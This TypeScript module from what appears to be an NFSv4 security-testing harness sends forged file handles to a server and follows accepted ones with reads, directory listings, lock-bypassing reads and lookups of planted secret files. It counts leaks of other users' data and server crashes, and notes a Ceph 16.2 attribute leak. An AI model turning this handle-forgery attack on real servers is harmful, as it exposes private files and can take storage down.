/**
 * Sends forged handles, many under way at once, and goes after those that the server takes: lists, reads and walks from
 * them until something of another's came back or nothing is left to try.
 */
import { NfsError } from '../nfs4/nfs-error.ts'
import { getAttributes, getFh, lookup, putFh, read, readDirectory } from '../nfs4/operations.ts'
import { access, lookupParent, readLink } from '../nfs4/raw-operations.ts'
import { attributesOfOthers, bytesOfOthers, namesOfOthers } from './judge.ts'
import type { Claimed } from '../nfs4/rpc.ts'
import type { Operation } from '../nfs4/operations.ts'
import type { RawNfs, RawReply } from '../nfs4/raw.ts'
import type { Field } from './field.ts'
import type { Forged } from './handles.ts'

export interface Struck {
  /** Handles sent. */
  sent: number
  /** How many were answered how, the operation named that said so. */
  readonly answers: Map<string, number>
  /** What of another's came back, and of which handle. */
  readonly found: string[]
  /**
   * Attributes of others' files and nothing else of them, from storage that judges users: Ceph's metadata server (16.2) tells them
   * of an inode in a snapshot without looking whose it is.
   */
  readonly told: string[]
  /** Handles that the server did not survive. */
  readonly died: string[]
  /** Longest time without a server, milliseconds. */
  awayMs: number
}

export const newStruck = (): Struck => ({
  sent: 0,
  answers: new Map(),
  found: [],
  told: [],
  died: [],
  awayMs: 0,
})

/** A server that dies more often than that is not attacked any further. */
const enoughDeaths = 3
const enoughFound = 5
const together = 64
const firstBytes = 64 * 1024
const anyState = Buffer.alloc(16)
const pastLocks = Buffer.alloc(16, 0xff)

const facts = getAttributes(['type', 'size', 'fileSystem', 'fileId', 'modifiedAt'])
const list = readDirectory(0n, Buffer.alloc(8), ['type'])
const get = read(anyState, 0, firstBytes)
const getPastLocks = read(pastLocks, 0, firstBytes)

/** Adds what came of these handles to `struck`. */
export async function strike(
  field: Field,
  minor: 0 | 1,
  handles: readonly Forged[],
  struck: Struck,
  as?: Claimed,
): Promise<void> {
  for (let at = 0; at < handles.length; at += together) {
    if (struck.died.length >= enoughDeaths || struck.found.length >= enoughFound) return
    const batch = handles.slice(at, at + together)
    const raw = await field.attacker(minor)
    const done = await Promise.all(batch.map((forged) => tryHandle(field, raw, forged, struck, as)))
    // Which of those under way it was shows when each is sent alone.
    if (done.includes('lost'))
      await alone(
        field,
        minor,
        batch.filter((_, index) => done[index] === 'lost'),
        struck,
        as,
      )
  }
}

async function alone(
  field: Field,
  minor: 0 | 1,
  handles: readonly Forged[],
  struck: Struck,
  as: Claimed | undefined,
): Promise<void> {
  struck.awayMs = Math.max(struck.awayMs, await field.untilBack())
  for (const forged of handles) {
    if (struck.died.length >= enoughDeaths) return
    const raw = await field.attacker(minor)
    if ((await tryHandle(field, raw, forged, struck, as)) === 'answered') continue
    struck.died.push(forged.what)
    struck.awayMs = Math.max(struck.awayMs, await field.untilBack())
  }
}

async function tryHandle(
  field: Field,
  raw: RawNfs,
  forged: Forged,
  struck: Struck,
  as: Claimed | undefined,
): Promise<'answered' | 'lost'> {
  const put = putFh(forged.bytes)
  try {
    const reply = await raw.compound([put, getFh, facts], as)
    struck.sent++
    count(struck, reply)
    // Also of what shows as the own share: to the server it may be another object there, with another way up.
    const taken = reply.done.some(({ name, status }) => name === 'PUTFH' && status === 'NFS4_OK')
    if (!taken) return 'answered'
    const seen = reply.of(facts)
    const leak = seen === undefined ? null : attributesOfOthers(field, seen)
    if (seen?.fileSystem === field.pseudoFileSystem) return 'answered'
    const more = await follow(field, raw, forged, as)
    if (more !== null) struck.found.push(`${forged.what}: ${more}`)
    else if (leak !== null) (field.judgesUsers ? struck.told : struck.found).push(`${forged.what}: ${leak}`)
    return 'answered'
  } catch (error) {
    if (!(error instanceof NfsError)) throw error
    if (error.code === 'CONNECTION' || error.code === 'DEADLINE') return 'lost'
    // RPC refuses what is no handle at all; a reply that can't be read is nothing that a server may send.
    struck.sent++
    add(struck, error.code === 'DENIED' ? 'refused by RPC' : error.message)
    if (error.code === 'PROTOCOL') struck.found.push(`${forged.what}: ${error.message}`)
    return 'answered'
  }
}

/** From a handle that was taken to whatever can be reached from there. */
async function follow(
  field: Field,
  raw: RawNfs,
  { bytes }: Forged,
  as: Claimed | undefined,
): Promise<string | null> {
  const put = putFh(bytes)
  const secrets = field.others.map(({ secret }) => secret.file)
  const ways: readonly (readonly Operation<unknown>[])[] = [
    [put, get],
    [put, getPastLocks],
    [put, list],
    ...secrets.map((name) => [put, lookup(name), facts, get]),
    [put, lookupParent, facts, list],
    [put, access(0x3f), readLink],
  ]
  for (const way of ways) {
    const reply = await raw.compound(way, as)
    const found = foundIn(field, reply, { attributes: !field.judgesUsers })
    if (found !== null) return found
  }
  return null
}

/** What of another's is in a reply to the operations of this file. */
function foundIn(
  field: Field,
  reply: RawReply,
  { attributes }: { readonly attributes: boolean },
): string | null {
  const [bytes, past, page, seen, target] = [
    reply.of(get),
    reply.of(getPastLocks),
    reply.of(list),
    reply.of(facts),
    reply.of(readLink),
  ]
  return (
    (bytes && bytesOfOthers(field, bytes.bytes)) ??
    (past && bytesOfOthers(field, past.bytes)) ??
    (page && namesOfOthers(field, page)) ??
    (target === undefined ? null : bytesOfOthers(field, Buffer.from(target, 'latin1'))) ??
    (attributes && seen ? attributesOfOthers(field, seen) : null) ??
    null
  )
}

function count(struck: Struck, reply: RawReply): void {
  add(struck, reply.status === 'NFS4_OK' ? 'taken' : reply.status.replace('NFS4ERR_', ''))
}

export function add(struck: Struck, answer: string): void {
  struck.answers.set(answer, (struck.answers.get(answer) ?? 0) + 1)
}

/** `2,301 BADHANDLE, 5 STALE`. */
export const answersOf = ({ answers }: Struck): string =>
  [...answers]
    .toSorted(([, a], [, b]) => b - a)
    .map(([answer, times]) => `${times.toLocaleString('en')} ${answer}`)
    .join(', ')
